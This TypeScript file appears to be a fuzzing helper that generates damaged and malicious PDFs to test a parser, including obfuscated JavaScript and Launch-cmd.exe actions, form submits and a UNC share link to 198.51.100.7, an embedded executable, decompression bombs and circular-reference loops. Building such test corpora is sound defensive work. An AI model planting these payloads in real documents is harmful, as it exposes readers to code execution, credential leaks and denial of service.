import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'

/** Generates malicious and damaged documents, deterministic for a seed. */
export type HostilePdf = { kind: string; file: Buffer }

export function createHostilePdfs(valid: readonly Buffer[], seed: number) {
  const random = createRandom(seed)
  const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item
  const makers: [kind: string, make: () => Buffer][] = [
    ['flipped bytes', () => flipBytes(pick(valid), random)],
    ['a part left out', () => cut(pick(valid), random)],
    ['a part twice', () => repeat(pick(valid), random)],
    ['words slipped in', () => slipIn(pick(valid), pick(WORDS), random)],
    ['words at the end', () => append(pick(valid), pick(WORDS))],
    [
      'filters over filters',
      () => nestFilters(1 + Math.floor(random() * 6), pick([1, 8, 64]), pick(['ObjStm', 'XRef', 'Other'])),
    ],
    ['an object stream', () => packObjects(pick(WORDS), 1 + Math.floor(random() * 3))],
    ['a loop', () => pick(LOOPS)],
    ['deep nesting', () => nest(10 ** (2 + Math.floor(random() * 4)))],
    ['numbers out of bounds', () => exaggerate(pick(valid), random)],
  ]
  return (index: number): HostilePdf => {
    const [kind, make] = makers[index % makers.length] as (typeof makers)[number]
    return { kind, file: make() }
  }
}

/** Mulberry32. */
export function createRandom(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296
  }
}

/** Active content, in notations that PDF readers accept. */
export const WORDS = [
  '<< /S /JavaScript /JS (app.alert(1)) >>',
  '<< /S /#4aavaScript /#4a#53 (app.alert(1)) >>',
  '<< /S/#4AavaScript/JS<6170702e616c6572742831293b> >>',
  '<< /S /#4caunch /F (cmd.exe) >>',
  '<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>',
  '<< /AA << /O << /S /#53ubmitForm /F (http://198.51.100.7/) >> >> >>',
  '<< /Names << /EmbeddedFiles << /Names [(x.exe) << /EF << /F 99 0 R >> >>] >> >> >>',
  '<< /AcroForm << /XFA [(template) 99 0 R] >> >>',
  '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>',
  '<< /S /GoToE /F (x.pdf) >>',
  '<< /S /URI /URI (http://198.51.100.7/) >>',
  '<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share) >>',
]

function flipBytes(valid: Buffer, random: () => number): Buffer {
  const file = Buffer.from(valid)
  for (let times = 1 + random() * 40; times > 0; times -= 1)
    file[Math.floor(random() * file.length)] = Math.floor(random() * 256)
  return file
}

function cut(valid: Buffer, random: () => number): Buffer {
  const from = Math.floor(random() * valid.length)
  return Buffer.concat([valid.subarray(0, from), valid.subarray(from + Math.floor(random() * 2000))])
}

function repeat(valid: Buffer, random: () => number): Buffer {
  const from = Math.floor(random() * valid.length)
  const part = valid.subarray(from, from + Math.floor(random() * 4000))
  const to = Math.floor(random() * valid.length)
  return Buffer.concat([valid.subarray(0, to), part, valid.subarray(to)])
}

/** Adds an entry to a random dictionary. */
function slipIn(valid: Buffer, words: string, random: () => number): Buffer {
  const at = valid.indexOf('>>', Math.floor(random() * valid.length * 0.9))
  if (at < 0) return append(valid, words)
  return Buffer.concat([valid.subarray(0, at), Buffer.from(` /Extra ${words} `), valid.subarray(at)])
}

/** Appends an object and a trailer, like an incremental update. */
function append(valid: Buffer, words: string): Buffer {
  return Buffer.concat([
    valid,
    Buffer.from(`\n900 0 obj\n${words}\nendobj\ntrailer\n<< /Size 901 >>\nstartxref\n0\n%%EOF\n`),
  ])
}

/** A few kilobytes that decompress to `megabytes` through nested filters. */
export function nestFilters(depth: number, megabytes: number, type: string): Buffer {
  const data = packSpaces(depth, megabytes)
  const filters = '/FlateDecode '.repeat(depth)
  return document([`<< /Type /${type} /N 1 /First 4 /Filter [${filters}] /Length ${data.length} >>`, data])
}

const packed = new Map<string, Buffer>()

function packSpaces(depth: number, megabytes: number): Buffer {
  const key = `${depth} ${megabytes}`
  const known = packed.get(key)
  if (known) return known
  const inner = depth > 1 ? packSpaces(depth - 1, megabytes) : Buffer.alloc(megabytes * 1024 * 1024, 0x20)
  const data = deflateSync(inner)
  packed.set(key, data)
  return data
}

/** Hides objects in a compressed object stream. */
export function packObjects(words: string, depth = 1): Buffer {
  let data: Buffer = Buffer.from(`10 0 ${words}`)
  for (let layer = 0; layer < depth; layer += 1) data = deflateSync(data)
  const filters = '/FlateDecode '.repeat(depth)
  return document([`<< /Type /ObjStm /N 1 /First 5 /Filter [${filters}] /Length ${data.length} >>`, data])
}

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'

/** A document with one page and one additional stream. */
function document([head, data]: [head: string, data: Buffer], page = PAGE): Buffer {
  const objects = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n${page}\nendobj\n`
  const start = Buffer.from(`%PDF-1.7\n${objects}4 0 obj\n${head}\nstream\n`)
  return Buffer.concat([
    start,
    data,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
  ])
}

const written = (text: string) => Buffer.from(`%PDF-1.7\n${text}\n%%EOF\n`)

/** Circular references: pages, parents, resources, cross-reference tables, lengths. */
export const LOOPS = [
  written(
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >> endobj trailer << /Root 1 0 R >>',
  ),
  written(
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Parent 2 0 R /Kids [3 0 R] /Count 1 >> endobj 3 0 obj << /Type /Page /Parent 3 0 R >> endobj trailer << /Root 1 0 R >>',
  ),
  written(
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj 3 0 obj << /Type /Page /Parent 2 0 R /Resources 4 0 R >> endobj 4 0 obj << /XObject << /X 5 0 R >> >> endobj 5 0 obj << /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources 4 0 R /Length 5 >> stream\n/X Do\nendstream endobj trailer << /Root 1 0 R >>',
  ),
  written(
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj 2 0 R endobj trailer << /Root 1 0 R /Prev 9 >>\nxref\n0 1\n0000000000 65535 f\ntrailer << /Size 1 /Root 1 0 R /Prev 9 >>\nstartxref\n9',
  ),
  written(
    '1 0 obj << /Type /ObjStm /N 1 /First 4 /Extends 1 0 R /Length 1 0 R >> stream\n1 0 << >>\nendstream endobj trailer << /Root 1 0 R >>',
  ),
  written(
    '1 0 obj << /Type /ObjStm /N 999999999 /First 999999999 /Length 8 >> stream\n1 0 << >>\nendstream endobj trailer << /Root 1 0 R >>',
  ),
  written(
    '1 0 obj << /Type /XRef /W [1 1 1] /Size 999999999 /Index [0 999999999] /Root 1 0 R /Length 3 >> stream\nabc\nendstream endobj',
  ),
]

function nest(depth: number): Buffer {
  return written(
    `1 0 obj ${'['.repeat(depth)}${']'.repeat(depth)} endobj ${'2 0 obj << /A '.repeat(depth)} trailer << /Root 1 0 R >>`,
  )
}

function exaggerate(valid: Buffer, random: () => number): Buffer {
  const text = valid.toString('latin1')
  const big = ['999999999', '-1', '4294967296', '0'][Math.floor(random() * 4)] ?? '0'
  const share = random()
  const changed = text.replace(/\/(Length|Count|N|First|Size|Width|Height)\s+\d+/g, (found, key) =>
    random() < share ? `/${key} ${big}` : found,
  )
  return Buffer.from(changed, 'latin1')
}

/** A typical contract: scanned, with a link, and signed on a screen. */
export async function signedOnScreen(): Promise<Buffer> {
  const file = await PDFDocument.create()
  const page = file.addPage([612, 792])
  page.drawText('A contract')
  const { context } = file
  const appearance = context.register(
    context.flateStream('0 0 1 rg 0 0 100 20 re f', { Type: 'XObject', Subtype: 'Form', BBox: [0, 0, 100, 20] }),
  )
  const widget = context.obj({ Type: 'Annot', Subtype: 'Stamp', Rect: [50, 50, 250, 90], AP: { N: appearance } })
  const hidden = context.obj({ Type: 'Annot', Subtype: 'Stamp', F: 2, Rect: [0, 0, 9, 9], AP: { N: appearance } })
  const action = { S: 'URI', URI: PDFString.of('https://plan.example/') }
  const link = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 50, 50], A: action })
  page.node.set(PDFName.of('Annots'), context.obj([widget, hidden, link].map((one) => context.register(one))))
  return Buffer.from(await file.save())
}
